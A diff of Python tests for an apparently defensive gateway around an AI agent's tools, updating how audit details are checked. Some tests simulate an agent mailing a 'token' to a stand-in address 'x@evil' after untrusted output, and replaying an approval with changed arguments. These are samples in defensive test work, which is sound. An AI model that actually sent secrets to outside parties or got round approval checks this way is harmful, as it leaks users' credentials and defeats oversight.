@@ -51,7 +51,7 @@ async def test_attack_exfil_after_untrusted_output_is_pending() -> None:
     verdict, _ = await world.call(POST, {"to": "x@evil", "body": "token"})
     assert (verdict.outcome, verdict.rule) == ("pending", "taint")
     assert verdict.approval_id is not None
-    assert world.audit.of("taint")[0].detail == "untrusted_output"
+    assert world.audit.of("taint")[0].detail["message"] == "untrusted_output"
     call = [e for e in world.audit.of("call") if e.tool == "mail__send_email"][-1]
     assert (call.decision, call.rule) == ("pending", "taint")
     assert world.audit.of("approval")[0].decision == "requested"
@@ -90,7 +90,7 @@ async def test_attack_replay_approval_with_changed_arguments_is_pending_again() 
     replay, _ = await world.call(POST, {"to": "x@evil", "body": "the token"})
     assert replay.outcome == "pending"
     assert replay.approval_id != verdict.approval_id
-    assert "not reused" in world.audit.of("approval")[-1].detail
+    assert "not reused" in world.audit.of("approval")[-1].detail["message"]
     assert world.store.calls.get("consume", 0) == 0
 
 
@@ -196,7 +196,7 @@ async def test_redaction_of_secrets_in_text_and_structured_content() -> None:
     assert redacted.content[0]["text"] == "token=[redacted] and b64 [redacted] and ab"
     assert redacted.content[1]["resource"]["text"] == "[[redacted]]"
     assert redacted.structured == {"env": {"TOKEN": "[redacted]"}, "list": ["[redacted]"]}
-    assert world.audit.of("redaction")[0].detail == "5 secret value(s) redacted"
+    assert world.audit.of("redaction")[0].detail["message"] == "5 secret value(s) redacted"
     assert secret not in repr(world.audit.events)
 
 
@@ -210,8 +210,8 @@ async def test_every_step_is_audited() -> None:
     kinds = [e.kind for e in world.audit.events if e.session == "s1"]
     assert kinds == ["list", "call", "result"]
     listed = world.audit.of("list")[0]
-    assert listed.detail == "shown 2 of 2"
-    assert "acting for bob" in world.audit.of("call")[0].detail
+    assert listed.detail["message"] == "shown 2 of 2"
+    assert "acting for bob" in world.audit.of("call")[0].detail["message"]
 
 
 async def test_sessions_are_bounded() -> None:
